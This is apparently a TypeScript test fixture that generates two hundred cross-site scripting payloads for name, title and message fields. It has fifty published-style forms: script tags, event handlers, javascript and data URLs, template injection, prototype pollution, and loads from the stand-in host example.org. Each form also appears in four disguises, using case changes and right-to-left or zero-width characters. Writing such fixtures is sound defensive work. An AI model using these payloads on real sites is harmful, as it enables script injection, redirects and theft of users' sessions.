// What a hostile colleague might write where a name, a title or a message belongs: forms of script known from published lists, each also in
// disguise. If any of them ran, it would set `window.ran` or ask another place for something.

const RUN = 'window.ran=1';

const FORMS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//example.org/x.js></script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `"onfocus=${RUN} autofocus x="`,
  `' onmouseover=${RUN} x='`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<a href="javascript:${RUN}">open</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">open</a>`,
  `[open](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `<details open ontoggle=${RUN}>`,
  `<math><mtext><style><img src onerror=${RUN}></style>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `<meta http-equiv=refresh content="0;url=//example.org">`,
  `<base href=//example.org/>`,
  `<link rel=stylesheet href=//example.org/x.css>`,
  `<style>@import "//example.org/x.css";*{display:none}</style>`,
  `<form action=//example.org><button autofocus onfocus=${RUN}>x</button></form>`,
  `<object data="data:text/html,<script>top.ran=1</script>"></object>`,
  `<embed src="data:text/html,<script>top.ran=1</script>">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `__proto__[ran]=1`,
  `photo.jpg<script>${RUN}</script>.exe`,
  `../../<img src=x onerror=${RUN}>.pdf`,
  `invoice\u202Efdp.<svg onload=${RUN}>`,
];

const DISGUISES: readonly ((form: string) => string)[] = [
  (form) => form,
  (form) => `X ${form.toUpperCase().replaceAll('WINDOW.RAN', 'window.ran')}`,
  // Right to left, as in a file name that hides its ending.
  (form) => `a\u202E${form}\u202C b`,
  (form) => `\u2067x ${form.replace('<', '<\u200B')}\u2069 ${form}`,
];

/** Two hundred, all different. */
export const PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) => FORMS.map(disguise));
